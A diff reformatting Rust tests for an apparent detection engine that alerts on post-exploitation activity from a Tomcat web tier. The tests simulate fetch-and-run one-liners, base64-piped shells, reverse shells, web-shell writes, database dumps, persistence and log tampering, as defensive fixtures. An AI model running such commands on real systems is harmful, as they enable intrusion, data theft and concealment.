@@ -61,9 +61,27 @@ impl World {
             next_pid: 1000,
         };
         w.exec_at(INIT, 0, "/usr/lib/systemd/systemd", &["/sbin/init"], 0);
-        w.exec_at(HTTPD, INIT, "/usr/sbin/httpd", &["/usr/sbin/httpd", "-DFOREGROUND"], 0);
-        w.exec_at(HELPER, HTTPD, "/usr/bin/bash", &["/bin/bash", "/mi/bin/map-appstore-url"], 0);
-        w.exec_at(TOMCAT, INIT, "/usr/java/jdk1.8.0/bin/java", &tomcat_argv(), 91);
+        w.exec_at(
+            HTTPD,
+            INIT,
+            "/usr/sbin/httpd",
+            &["/usr/sbin/httpd", "-DFOREGROUND"],
+            0,
+        );
+        w.exec_at(
+            HELPER,
+            HTTPD,
+            "/usr/bin/bash",
+            &["/bin/bash", "/mi/bin/map-appstore-url"],
+            0,
+        );
+        w.exec_at(
+            TOMCAT,
+            INIT,
+            "/usr/java/jdk1.8.0/bin/java",
+            &tomcat_argv(),
+            91,
+        );
         w.exec_at(SSHD, INIT, "/usr/sbin/sshd", &["sshd: misupport@notty"], 0);
         w.exec_at(ADMIN_SHELL, SSHD, "/usr/bin/bash", &["-bash"], 0);
         w
@@ -87,7 +105,15 @@ impl World {
         self.exec_with(pid, ppid, exe, argv, uid, FdKind::Pipe)
     }
 
-    fn exec_with(&mut self, pid: u32, ppid: u32, exe: &str, argv: &[&str], uid: u32, stdio: FdKind) -> Vec<Alert> {
+    fn exec_with(
+        &mut self,
+        pid: u32,
+        ppid: u32,
+        exe: &str,
+        argv: &[&str],
+        uid: u32,
+        stdio: FdKind,
+    ) -> Vec<Alert> {
         let stdio = (0..3)
             .map(|fd| FdInfo {
                 fd,
@@ -107,7 +133,13 @@ impl World {
             pid,
             tid: pid,
             uid,
-            comm: exe.rsplit('/').next().unwrap_or("").chars().take(15).collect(),
+            comm: exe
+                .rsplit('/')
+                .next()
+                .unwrap_or("")
+                .chars()
+                .take(15)
+                .collect(),
             kind: Some(event::Kind::Exec(ExecEvent {
                 ppid,
                 filename: exe.into(),
@@ -126,7 +158,13 @@ impl World {
         self.spawn_with(parent, exe, argv, FdKind::Pipe)
     }
 
-    fn spawn_with(&mut self, parent: u32, exe: &str, argv: &[&str], stdio: FdKind) -> (u32, Vec<Alert>) {
+    fn spawn_with(
+        &mut self,
+        parent: u32,
+        exe: &str,
+        argv: &[&str],
+        stdio: FdKind,
+    ) -> (u32, Vec<Alert>) {
         let pid = self.fork(parent);
         let uid = self.table.get(parent).map_or(0, |p| p.uid);
         let alerts = self.exec_with(pid, parent, exe, argv, uid, stdio);
@@ -208,9 +246,36 @@ fn has(alerts: &[Alert], rule: &str) -> bool {
 #[test]
 fn identities_label_the_web_tier_and_its_descendants() {
     let mut w = World::new();
-    assert_eq!(&*w.table.get(TOMCAT).unwrap().lineage.as_ref().unwrap().identity, "tomcat");
-    assert_eq!(&*w.table.get(HELPER).unwrap().lineage.as_ref().unwrap().identity, "rewritemap-helper");
-    assert_eq!(&*w.table.get(HTTPD).unwrap().lineage.as_ref().unwrap().identity, "httpd");
+    assert_eq!(
+        &*w.table
+            .get(TOMCAT)
+            .unwrap()
+            .lineage
+            .as_ref()
+            .unwrap()
+            .identity,
+        "tomcat"
+    );
+    assert_eq!(
+        &*w.table
+            .get(HELPER)
+            .unwrap()
+            .lineage
+            .as_ref()
+            .unwrap()
+            .identity,
+        "rewritemap-helper"
+    );
+    assert_eq!(
+        &*w.table
+            .get(HTTPD)
+            .unwrap()
+            .lineage
+            .as_ref()
+            .unwrap()
+            .identity,
+        "httpd"
+    );
     assert!(w.table.get(ADMIN_SHELL).unwrap().lineage.is_none());
     // A grandchild through fork and exec keeps the label and names its source.
     let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "env sh"]);
@@ -236,7 +301,10 @@ fn alert_carries_process_ancestry_lineage_and_evidence() {
     let chain: Vec<u32> = a.ancestry.iter().map(|p| p.pid).collect();
     assert_eq!(chain, [TOMCAT, INIT]);
     let lineage = a.lineage.as_ref().unwrap();
-    assert_eq!((lineage.identity.as_str(), lineage.source_pid, lineage.depth), ("tomcat", TOMCAT, 1));
+    assert_eq!(
+        (lineage.identity.as_str(), lineage.source_pid, lineage.depth),
+        ("tomcat", TOMCAT, 1)
+    );
     assert_eq!(a.evidence.len(), 1);
     assert_eq!(a.count, 1);
 }
@@ -277,7 +345,11 @@ fn b2_tomcat_shell() {
     assert!(has(&alerts, "EPMM-B2"));
     // jspawnhelper, the JVM's plumbing, is not a child to alert on; nor is an admin's sh.
     let mut w = World::new();
-    let (_, alerts) = w.spawn(TOMCAT, "/usr/lib/jvm/java-17/lib/jspawnhelper", &["jspawnhelper", "1:2:3"]);
+    let (_, alerts) = w.spawn(
+        TOMCAT,
+        "/usr/lib/jvm/java-17/lib/jspawnhelper",
+        &["jspawnhelper", "1:2:3"],
+    );
     assert!(alerts.is_empty(), "{:?}", ids(&alerts));
     let (_, alerts) = w.spawn(ADMIN_SHELL, "/bin/sh", &["/bin/sh", "-c", "uname -a"]);
     assert!(alerts.is_empty(), "{:?}", ids(&alerts));
@@ -289,7 +361,11 @@ fn b3_tomcat_runs_curl_directly() {
     let (_, alerts) = w.spawn(TOMCAT, "/usr/bin/curl", &["curl", "http://x.oast.fun"]);
     assert!(has(&alerts, "EPMM-B3"));
     let mut w = World::new();
-    let (_, alerts) = w.spawn(ADMIN_SHELL, "/usr/bin/curl", &["curl", "https://updates.example"]);
+    let (_, alerts) = w.spawn(
+        ADMIN_SHELL,
+        "/usr/bin/curl",
+        &["curl", "https://updates.example"],
+    );
     assert!(!has(&alerts, "EPMM-B3"));
 }
 
@@ -297,7 +373,11 @@ fn b3_tomcat_runs_curl_directly() {
 fn b5_download_chmod_execute() {
     let mut w = World::new();
     let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "..."]);
-    w.spawn(sh, "/usr/bin/curl", &["curl", "-o", "/tmp/kl", "http://s3/kl"]);
+    w.spawn(
+        sh,
+        "/usr/bin/curl",
+        &["curl", "-o", "/tmp/kl", "http://s3/kl"],
+    );
     let (chmod, _) = w.spawn(sh, "/usr/bin/chmod", &["chmod", "+x", "/tmp/kl"]);
     w.file(chmod, FileOp::ChmodExec, "/tmp/kl");
     let (_, alerts) = w.spawn(sh, "/tmp/kl", &["/tmp/kl"]);
@@ -307,7 +387,11 @@ fn b5_download_chmod_execute() {
     // Running a different file than the one made executable is not the sequence.
     let mut w = World::new();
     let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "..."]);
-    w.spawn(sh, "/usr/bin/curl", &["curl", "-o", "/tmp/kl", "http://s3/kl"]);
+    w.spawn(
+        sh,
+        "/usr/bin/curl",
+        &["curl", "-o", "/tmp/kl", "http://s3/kl"],
+    );
     let (chmod, _) = w.spawn(sh, "/usr/bin/chmod", &["chmod", "+x", "/tmp/kl"]);
     w.file(chmod, FileOp::ChmodExec, "/tmp/kl");
     let (_, alerts) = w.spawn(sh, "/usr/bin/ls", &["ls"]);
@@ -317,13 +401,25 @@ fn b5_download_chmod_execute() {
 #[test]
 fn b6_piped_and_encoded_one_liners() {
     let mut w = World::new();
-    let (_, alerts) = w.spawn(TOMCAT, "/bin/bash", &["bash", "-c", "echo aWQK | base64 -d | bash"]);
+    let (_, alerts) = w.spawn(
+        TOMCAT,
+        "/bin/bash",
+        &["bash", "-c", "echo aWQK | base64 -d | bash"],
+    );
     assert!(has(&alerts, "EPMM-B6"));
     let mut w = World::new();
-    let (_, alerts) = w.spawn(TOMCAT, "/bin/bash", &["bash", "-c", "curl -s http://x/s.sh|sh"]);
+    let (_, alerts) = w.spawn(
+        TOMCAT,
+        "/bin/bash",
+        &["bash", "-c", "curl -s http://x/s.sh|sh"],
+    );
     assert!(has(&alerts, "EPMM-B6"));
     let mut w = World::new();
-    let (_, alerts) = w.spawn(ADMIN_SHELL, "/bin/bash", &["bash", "-c", "echo aWQK | base64 -d | bash"]);
+    let (_, alerts) = w.spawn(
+        ADMIN_SHELL,
+        "/bin/bash",
+        &["bash", "-c", "echo aWQK | base64 -d | bash"],
+    );
     assert!(!has(&alerts, "EPMM-B6"));
 }
 
@@ -331,7 +427,10 @@ fn b6_piped_and_encoded_one_liners() {
 fn b7_reverse_shell_on_a_socket() {
     let mut w = World::new();
     let (_, alerts) = w.spawn_with(ADMIN_SHELL, "/bin/bash", &["bash", "-i"], FdKind::Socket);
-    assert!(has(&alerts, "EPMM-B7"), "socket stdio is a reverse shell wherever it comes from");
+    assert!(
+        has(&alerts, "EPMM-B7"),
+        "socket stdio is a reverse shell wherever it comes from"
+    );
     let mut w = World::new();
     let (_, alerts) = w.spawn_with(TOMCAT, "/bin/sh", &["/bin/sh"], FdKind::Pipe);
     assert!(!has(&alerts, "EPMM-B7"), "the JVM's children get pipes");
@@ -381,46 +480,97 @@ fn b8_java_native_reverse_shell() {
 fn b9_web_shell_written() {
     let mut w = World::new();
     let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "echo > 403.jsp"]);
-    assert!(has(&w.file(sh, FileOp::Create, "/mi/tomcat/webapps/mifs/403.jsp"), "EPMM-B9"));
+    assert!(has(
+        &w.file(sh, FileOp::Create, "/mi/tomcat/webapps/mifs/403.jsp"),
+        "EPMM-B9"
+    ));
     let mut w = World::new();
     let (rpm, _) = w.spawn(ADMIN_SHELL, "/usr/bin/rpm", &["rpm", "-Uvh", "mi.rpm"]);
-    assert!(w.file(rpm, FileOp::Create, "/mi/tomcat/webapps/mifs/index.jsp").is_empty(), "upgrades write JSPs");
+    assert!(
+        w.file(rpm, FileOp::Create, "/mi/tomcat/webapps/mifs/index.jsp")
+            .is_empty(),
+        "upgrades write JSPs"
+    );
 }
 
 #[test]
 fn b9_jvm_writes_a_jsp() {
     let mut w = World::new();
-    assert!(has(&w.file(TOMCAT, FileOp::Create, "/mi/tomcat/webapps/mifs/x.jsp"), "EPMM-B9-JVM"));
+    assert!(has(
+        &w.file(TOMCAT, FileOp::Create, "/mi/tomcat/webapps/mifs/x.jsp"),
+        "EPMM-B9-JVM"
+    ));
     // Jasper compiling into the work directory is not the web root.
-    assert!(w.file(TOMCAT, FileOp::Create, "/mi/tomcat/work/Catalina/x_jsp.class").is_empty());
+    assert!(
+        w.file(
+            TOMCAT,
+            FileOp::Create,
+            "/mi/tomcat/work/Catalina/x_jsp.class"
+        )
+        .is_empty()
+    );
 }
 
 #[test]
 fn b10_data_staged_as_css() {
     let mut w = World::new();
-    let (dump, _) = w.spawn(TOMCAT, "/usr/bin/mysqldump", &["mysqldump", "--databases", "mifs"]);
-    assert!(has(&w.file(dump, FileOp::Create, "/mi/tomcat/webapps/mifs/css/mibasecss.css"), "EPMM-B10"));
+    let (dump, _) = w.spawn(
+        TOMCAT,
+        "/usr/bin/mysqldump",
+        &["mysqldump", "--databases", "mifs"],
+    );
+    assert!(has(
+        &w.file(
+            dump,
+            FileOp::Create,
+            "/mi/tomcat/webapps/mifs/css/mibasecss.css"
+        ),
+        "EPMM-B10"
+    ));
     let mut w = World::new();
-    assert!(!has(&w.file(TOMCAT, FileOp::Create, "/mi/tomcat/webapps/mifs/css/cache.css"), "EPMM-B10"));
+    assert!(!has(
+        &w.file(
+            TOMCAT,
+            FileOp::Create,
+            "/mi/tomcat/webapps/mifs/css/cache.css"
+        ),
+        "EPMM-B10"
+    ));
 }
 
 #[test]
 fn b11_database_theft() {
     let mut w = World::new();
-    let (_, alerts) = w.spawn(TOMCAT, "/usr/bin/mysqldump", &["mysqldump", "--databases", "mifs", "--tables", "mi_user"]);
+    let (_, alerts) = w.spawn(
+        TOMCAT,
+        "/usr/bin/mysqldump",
+        &["mysqldump", "--databases", "mifs", "--tables", "mi_user"],
+    );
     assert!(has(&alerts, "EPMM-B11"));
     // A backup by cron, outside the web tier, is not theft.
     let mut w = World::new();
     let (cron, _) = w.spawn(INIT, "/usr/sbin/crond", &["crond"]);
-    let (_, alerts) = w.spawn(cron, "/usr/bin/mysqldump", &["mysqldump", "--databases", "mifs"]);
+    let (_, alerts) = w.spawn(
+        cron,
+        "/usr/bin/mysqldump",
+        &["mysqldump", "--databases", "mifs"],
+    );
     assert!(!has(&alerts, "EPMM-B11"));
 }
 
 #[test]
 fn b12_privileged_shell() {
     let mut w = World::new();
-    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "/usr/bin/env /bin/sh -p -c 'id'"]);
-    let (env, _) = w.spawn(sh, "/usr/bin/env", &["/usr/bin/env", "/bin/sh", "-p", "-c", "id"]);
+    let (sh, _) = w.spawn(
+        TOMCAT,
+        "/bin/sh",
+        &["/bin/sh", "-c", "/usr/bin/env /bin/sh -p -c 'id'"],
+    );
+    let (env, _) = w.spawn(
+        sh,
+        "/usr/bin/env",
+        &["/usr/bin/env", "/bin/sh", "-p", "-c", "id"],
+    );
     let (_, alerts) = w.spawn(env, "/bin/sh", &["/bin/sh", "-p", "-c", "id"]);
     assert!(has(&alerts, "EPMM-B12"));
     let mut w = World::new();
@@ -452,7 +602,11 @@ fn b15_injection_and_admin_debugging() {
     let mut w = World::new();
     let (gdb, _) = w.spawn(ADMIN_SHELL, "/usr/bin/gdb", &["gdb", "-p", "200"]);
     let alerts = w.on(gdb, ptrace(TOMCAT));
-    assert!(!has(&alerts, "EPMM-B15") && has(&alerts, "EPMM-B15-ADMIN"), "{:?}", ids(&alerts));
+    assert!(
+        !has(&alerts, "EPMM-B15") && has(&alerts, "EPMM-B15-ADMIN"),
+        "{:?}",
+        ids(&alerts)
+    );
     // A process writing its own memory is not injection.
     let own = event::Kind::ProcMemWrite(ProcMemWriteEvent {
         target_pid: gdb,
@@ -498,7 +652,11 @@ fn b17_exec_from_tmp() {
     let (_, alerts) = w.spawn(ADMIN_SHELL, "/dev/shm/.x/kworker", &["kworker"]);
     assert!(has(&alerts, "EPMM-B17"));
     let mut w = World::new();
-    let (_, alerts) = w.spawn(ADMIN_SHELL, "/tmp/ivanti-security-update-1761642/run", &["run"]);
+    let (_, alerts) = w.spawn(
+        ADMIN_SHELL,
+        "/tmp/ivanti-security-update-1761642/run",
+        &["run"],
+    );
     assert!(!has(&alerts, "EPMM-B17"), "the hotfix's own directory");
     let (_, alerts) = w.spawn(ADMIN_SHELL, "/usr/bin/ls", &["ls"]);
     assert!(!has(&alerts, "EPMM-B17"));
@@ -508,14 +666,29 @@ fn b17_exec_from_tmp() {
 fn b18_persistence() {
     let mut w = World::new();
     let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
-    assert!(has(&w.file(sh, FileOp::Create, "/etc/cron.d/update"), "EPMM-B18"));
-    assert!(has(&w.file(sh, FileOp::OpenWrite, "/home/misupport/.ssh/authorized_keys"), "EPMM-B18") || w.engine.stats.collapsed > 0);
+    assert!(has(
+        &w.file(sh, FileOp::Create, "/etc/cron.d/update"),
+        "EPMM-B18"
+    ));
+    assert!(
+        has(
+            &w.file(
+                sh,
+                FileOp::OpenWrite,
+                "/home/misupport/.ssh/authorized_keys"
+            ),
+            "EPMM-B18"
+        ) || w.engine.stats.collapsed > 0
+    );
     let (_, alerts) = w.spawn(sh, "/usr/bin/crontab", &["crontab", "-"]);
     assert!(has(&alerts, "EPMM-B18-EXEC"));
     let mut w = World::new();
     let (yum, _) = w.spawn(ADMIN_SHELL, "/usr/bin/yum", &["yum", "update"]);
     let (rpm, _) = w.spawn(yum, "/usr/bin/rpm", &["rpm"]);
-    assert!(w.file(rpm, FileOp::Create, "/usr/lib/systemd/system/mi.service").is_empty());
+    assert!(
+        w.file(rpm, FileOp::Create, "/usr/lib/systemd/system/mi.service")
+            .is_empty()
+    );
 }
 
 #[test]
@@ -542,26 +715,47 @@ fn b21_tunnels() {
     let (_, alerts) = w.spawn(ADMIN_SHELL, "/tmp/frpc", &["frpc", "-c", "frpc.ini"]);
     assert!(has(&alerts, "EPMM-B21"));
     let mut w = World::new();
-    let (_, alerts) = w.spawn(ADMIN_SHELL, "/usr/bin/ssh", &["ssh", "-R", "9000:localhost:22", "x"]);
-    assert!(!has(&alerts, "EPMM-B21"), "an admin's ssh tunnel is not the web tier's");
+    let (_, alerts) = w.spawn(
+        ADMIN_SHELL,
+        "/usr/bin/ssh",
+        &["ssh", "-R", "9000:localhost:22", "x"],
+    );
+    assert!(
+        !has(&alerts, "EPMM-B21"),
+        "an admin's ssh tunnel is not the web tier's"
+    );
 }
 
 #[test]
 fn b23_log_tampering() {
     let mut w = World::new();
-    let (sed, _) = w.spawn(ADMIN_SHELL, "/usr/bin/sed", &["sed", "-i", "/fob/d", "/var/log/httpd/https-access_log"]);
+    let (sed, _) = w.spawn(
+        ADMIN_SHELL,
+        "/usr/bin/sed",
+        &["sed", "-i", "/fob/d", "/var/log/httpd/https-access_log"],
+    );
     let mut rename = FileEvent {
         op: FileOp::Rename as i32,
         path: "/var/log/httpd/https-access_log".into(),
         other_path: "/var/log/httpd/sedX1".into(),
         ..Default::default()
     };
-    assert!(has(&w.on(sed, event::Kind::File(rename.clone())), "EPMM-B23"));
+    assert!(has(
+        &w.on(sed, event::Kind::File(rename.clone())),
+        "EPMM-B23"
+    ));
     let mut w = World::new();
     let (cron, _) = w.spawn(INIT, "/usr/sbin/crond", &["crond"]);
-    let (lr, _) = w.spawn(cron, "/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"]);
+    let (lr, _) = w.spawn(
+        cron,
+        "/usr/sbin/logrotate",
+        &["logrotate", "/etc/logrotate.conf"],
+    );
     rename.path = "/var/log/httpd/https-access_log".into();
-    assert!(w.on(lr, event::Kind::File(rename)).is_empty(), "logrotate rotates logs");
+    assert!(
+        w.on(lr, event::Kind::File(rename)).is_empty(),
+        "logrotate rotates logs"
+    );
 }
 
 #[test]
@@ -571,8 +765,14 @@ fn b24_outbound_from_web_tier() {
     assert!(has(&w.connect(sh, "193.24.123.42", 443), "EPMM-B24"));
     let mut w = World::new();
     let (sh, _) = w.spawn(TOMCAT, "/bin/bash", &["bash"]);
-    assert!(!has(&w.connect(sh, "10.1.2.3", 443), "EPMM-B24"), "internal destination");
-    assert!(!has(&w.connect(TOMCAT, "52.1.2.3", 443), "EPMM-B24"), "Tomcat's own integrations");
+    assert!(
+        !has(&w.connect(sh, "10.1.2.3", 443), "EPMM-B24"),
+        "internal destination"
+    );
+    assert!(
+        !has(&w.connect(TOMCAT, "52.1.2.3", 443), "EPMM-B24"),
+        "Tomcat's own integrations"
+    );
 }
 
 #[test]
@@ -604,7 +804,13 @@ fn benign_activity_is_quiet() {
     let mut alerts = Vec::new();
     // JVM child plumbing on JDK >= 12: jspawnhelper execs, then the real program, with pipes.
     let child = w.fork(TOMCAT);
-    alerts.extend(w.exec_at(child, TOMCAT, "/usr/lib/jvm/java-17/lib/jspawnhelper", &["jspawnhelper", "1:2:3"], 91));
+    alerts.extend(w.exec_at(
+        child,
+        TOMCAT,
+        "/usr/lib/jvm/java-17/lib/jspawnhelper",
+        &["jspawnhelper", "1:2:3"],
+        91,
+    ));
     // An administrator's session and a package query.
     let (sh, a) = w.spawn(ADMIN_SHELL, "/usr/bin/bash", &["bash"]);
     alerts.extend(a);
@@ -612,13 +818,20 @@ fn benign_activity_is_quiet() {
         ("/usr/bin/ls", vec!["ls", "-l", "/mi"]),
         ("/usr/bin/rpm", vec!["rpm", "-qa"]),
         ("/usr/bin/systemctl", vec!["systemctl", "status", "httpd"]),
-        ("/usr/bin/tail", vec!["tail", "/var/log/httpd/https-access_log"]),
+        (
+            "/usr/bin/tail",
+            vec!["tail", "/var/log/httpd/https-access_log"],
+        ),
     ] {
         alerts.extend(w.spawn(sh, exe, &argv).1);
     }
     // Tomcat's own log rotation, gc.log, loopback connectors, MySQL.
     alerts.extend(w.file(TOMCAT, FileOp::Rename, "/var/log/tomcat/mifs.log"));
-    alerts.extend(w.file(TOMCAT, FileOp::Create, "/mi/tomcat/work/Catalina/localhost/mifs/x_jsp.java"));
+    alerts.extend(w.file(
+        TOMCAT,
+        FileOp::Create,
+        "/mi/tomcat/work/Catalina/localhost/mifs/x_jsp.java",
+    ));
     alerts.extend(w.connect(TOMCAT, "127.0.0.1", 8083));
     alerts.extend(w.on(
         TOMCAT,
@@ -654,8 +867,14 @@ fn allow_entries_and_disables_silence_rules() {
 #[test]
 fn every_default_rule_has_tests() {
     let source = include_str!("tests.rs");
-    let set = rules::compile_texts(&[(rules::DEFAULT_PACK_NAME.into(), rules::DEFAULT_PACK.into())]).unwrap();
+    let set =
+        rules::compile_texts(&[(rules::DEFAULT_PACK_NAME.into(), rules::DEFAULT_PACK.into())])
+            .unwrap();
     for rule in &set.rules {
-        assert!(source.contains(&format!("\"{}\"", rule.id)), "no test names {}", rule.id);
+        assert!(
+            source.contains(&format!("\"{}\"", rule.id)),
+            "no test names {}",
+            rule.id
+        );
     }
 }
